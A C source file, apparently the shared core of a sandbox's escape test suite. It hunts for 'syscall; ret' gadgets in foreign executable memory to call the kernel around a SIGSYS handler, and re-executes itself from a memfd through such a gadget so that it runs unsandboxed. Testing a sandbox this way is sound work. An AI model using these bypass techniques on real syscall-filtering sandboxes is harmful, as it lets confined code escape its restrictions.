/* Shared part of the kernel-level attack programs of
 * tests/tests/attacks_kernel.rs (issue 8: "kernel-level escapes").
 *
 * Each program defines attacks(), which tries each of its items once in the
 * current way (W). main() runs it three times:
 *   libc    the libc wrapper (or libc's syscall() where glibc has none);
 *           under preld this goes through the handler
 *   raw     a `syscall` instruction in this program: through the handler too
 *   gadget  a `syscall; ret` found in executable memory outside this
 *           program and its libraries (ld-preld's text under preld): it
 *           reaches the kernel directly, as a real attacker would. When none
 *           is found (a native run) the program's own stub stands in; the
 *           `gadget:` line says which.
 * and, in mode `memfd` (static builds), copies itself into a memfd and
 * execveat()s it through the gadget: the new image runs with no handler at
 * all and tries every item again, ways `memfd-libc` and `memfd-raw`.
 *
 * Every attempt prints exactly one line:
 *   ESCAPE: <item> via <way> -- <what it reached>
 *   held: <item> via <way>: <errno or why>
 * plus `info:` lines, and END when the program finishes.
 *
 * argv: MODE KEY=VALUE...  MODE is attack, memfd, memfd-child, or one of the
 * helpers the harness runs natively (victim, setup-key, unlink-key,
 * setup-ipc, remove-ipc). Every key the harness knows is passed to every
 * program; run= names the run (it goes into the tags sent to listeners). */
#include "../attack/attack.h"
#include "../attack/gadget_scan.h"
#include <poll.h>
#include <stdarg.h>
#include <sys/wait.h>

enum { LIBC, RAW, GADGET };
static int W;
static const char *wayname = "?";
static unsigned long G;
static int memfd_child;
static int g_argc;
static char **g_argv;

/* The program's own `syscall; ret`, used as the gadget when no foreign one
 * exists (natively: then it is just another way into the kernel). */
__asm__(".text\n.globl kattack_own_gadget\nkattack_own_gadget:\n\tsyscall\n\tret\n");
extern char kattack_own_gadget[];

/* call_gadget with all six argument registers (the programs are built
 * with -mno-red-zone: the call pushes below the stack pointer). */
static long gad6(unsigned long g, long n, long a, long b, long c, long d, long e, long f) {
    long ret;
    register long r10 __asm__("r10") = d;
    register long r8 __asm__("r8") = e;
    register long r9 __asm__("r9") = f;
    __asm__ volatile("call *%[g]"
                     : "=a"(ret), "+r"(r8), "+r"(r9), "+r"(r10)
                     : [g] "r"(g), "a"(n), "D"(a), "S"(b), "d"(c)
                     : "rcx", "r11", "memory");
    return ret;
}

static long sc6(long n, long a, long b, long c, long d, long e, long f) {
    if (W == GADGET) return gad6(G, n, a, b, c, d, e, f);
    return raw6(n, a, b, c, d, e, f);
}
#define SCX(n, a, b, c, d, e, f, ...) sc6((n), (long)(a), (long)(b), (long)(c), (long)(d), (long)(e), (long)(f))
/* SC(SYS_x, args...): the raw or gadget call of the current way. */
#define SC(...) SCX(__VA_ARGS__, 0, 0, 0, 0, 0, 0)
/* TRY(libc call, SYS_x, args...): the call in the current way; -errno on failure. */
#define TRY(libc_call, ...) (W == LIBC ? lc((long)(libc_call)) : SC(__VA_ARGS__))

static const char *arg(const char *key) {
    size_t k = strlen(key);
    for (int i = 2; i < g_argc; i++)
        if (!strncmp(g_argv[i], key, k) && g_argv[i][k] == '=') return g_argv[i] + k + 1;
    fprintf(stderr, "kattack: missing argument %s=\n", key);
    exit(2);
}
static long argl(const char *key) { return strtol(arg(key), 0, 10); }

static void vsay(const char *prefix, const char *item, const char *fmt, va_list ap) {
    printf("%s%s via %s%s", prefix, item, wayname, *prefix == 'E' ? " -- " : ": ");
    vprintf(fmt, ap);
    printf("\n");
    fflush(stdout);
}
static void escape(const char *item, const char *fmt, ...) {
    va_list ap;
    va_start(ap, fmt);
    vsay("ESCAPE: ", item, fmt, ap);
    va_end(ap);
}
static void held(const char *item, const char *fmt, ...) {
    va_list ap;
    va_start(ap, fmt);
    vsay("held: ", item, fmt, ap);
    va_end(ap);
}
static const char *err(long r) { return r < 0 ? strerror((int)-r) : "no error"; }
/* The common case: the call succeeding is the escape. */
static void verdict(const char *item, long r, const char *what) {
    if (r >= 0) escape(item, "%s (returned %ld)", what, r);
    else held(item, "%s", err(r));
}
static void info(const char *fmt, ...) {
    va_list ap;
    va_start(ap, fmt);
    printf("info: ");
    vprintf(fmt, ap);
    printf("\n");
    fflush(stdout);
    va_end(ap);
}
/* The tag an attempt sends to a listener of the harness. */
static const char *tag(const char *item) {
    static char t[256];
    snprintf(t, sizeof t, "KATTACK %s %s %s\n", arg("run"), item, wayname);
    return t;
}
static void closefd(long fd) { if (fd >= 0) close((int)fd); }

/* Picks the gadget: the first candidate outside this program that runs a
 * harmless call without faulting, else the own stub. */
static void pick_gadget(void) {
    find_gadgets();
    G = 0;
    for (int i = 0; i < ncand && !G; i++) {
        if (sigsetjmp(jb, 1)) { info("gadget %#lx faulted", cands[i]); continue; }
        long r = gad6(cands[i], SYS_getpid, 0, 0, 0, 0, 0, 0);
        if (r > 0) G = cands[i];
    }
    signal(SIGSEGV, SIG_DFL);
    signal(SIGBUS, SIG_DFL);
    signal(SIGILL, SIG_DFL);
    if (G) {
        printf("gadget: %#lx, %d found outside the program\n", G, ncand);
    } else {
        G = (unsigned long)kattack_own_gadget;
        printf("gadget: own stub %#lx, none found outside the program\n", G);
    }
    /* Does the gadget go around the handler? preld hides its SIGSYS handler
     * from the program; the kernel, asked through the gadget, shows it. */
    struct { unsigned long h, flags, restorer, mask; } viaraw = { 0 }, viagadget = { 0 };
    raw6(SYS_rt_sigaction, SIGSYS, 0, (long)&viaraw, 8, 0, 0);
    gad6(G, SYS_rt_sigaction, SIGSYS, 0, (long)&viagadget, 8, 0, 0);
    printf("bypass: SIGSYS action via raw %#lx, via gadget %#lx\n", viaraw.h, viagadget.h);
    fflush(stdout);
}

static void attacks(void);
static int helper(const char *mode);

/* Copies this (static) program into a memfd and execs it through the
 * gadget, so that it runs with no handler. Returns only on failure. */
static void memfd_exec(void) {
    int src = open(g_argv[0], O_RDONLY | O_CLOEXEC);
    if (src < 0) { printf("memfd-exec: open %s: %s\n", g_argv[0], strerror(errno)); return; }
    long m = gad6(G, SYS_memfd_create, (long)"kattack", 1 /* MFD_CLOEXEC */, 0, 0, 0, 0);
    if (m < 0) { printf("memfd-exec: memfd_create via gadget: %s\n", err(m)); return; }
    char buf[65536];
    long n;
    while ((n = read(src, buf, sizeof buf)) > 0)
        if (write((int)m, buf, n) != n) { printf("memfd-exec: write: %s\n", strerror(errno)); return; }
    close(src);
    char **av = calloc(g_argc + 1, sizeof *av);
    for (int i = 0; i < g_argc; i++) av[i] = g_argv[i];
    av[1] = "memfd-child";
    extern char **environ;
    fflush(stdout);
    long r = gad6(G, SYS_execveat, m, (long)"", (long)av, (long)environ, AT_EMPTY_PATH, 0);
    printf("memfd-exec: execveat(memfd) via gadget failed: %s\n", err(r));
    r = raw6(SYS_execveat, m, (long)"", (long)av, (long)environ, AT_EMPTY_PATH, 0);
    printf("memfd-exec: execveat(memfd) via raw syscall failed too: %s\n", err(r));
    fflush(stdout);
}

int main(int argc, char **argv) {
    g_argc = argc;
    g_argv = argv;
    if (argc < 2) { fprintf(stderr, "usage: %s MODE KEY=VALUE...\n", argv[0]); return 2; }
    const char *mode = argv[1];
    if (strcmp(mode, "attack") && strcmp(mode, "memfd") && strcmp(mode, "memfd-child")) return helper(mode);
    if (!strcmp(mode, "memfd-child")) {
        memfd_child = 1;
        printf("memfd-child: running from a memfd\n");
        W = LIBC, wayname = "memfd-libc";
        attacks();
        W = RAW, wayname = "memfd-raw";
        attacks();
        printf("END\n");
        return 0;
    }
    pick_gadget();
    if (!strcmp(mode, "memfd")) {
        memfd_exec();
        printf("END\n");
        return 0;
    }
    W = LIBC, wayname = "libc";
    attacks();
    W = RAW, wayname = "raw";
    attacks();
    W = GADGET, wayname = "gadget";
    attacks();
    printf("END\n");
    return 0;
}

/* Most programs need no helper mode. */
#define NO_HELPERS static int helper(const char *mode) { fprintf(stderr, "kattack: unknown mode %s\n", mode); return 2; }
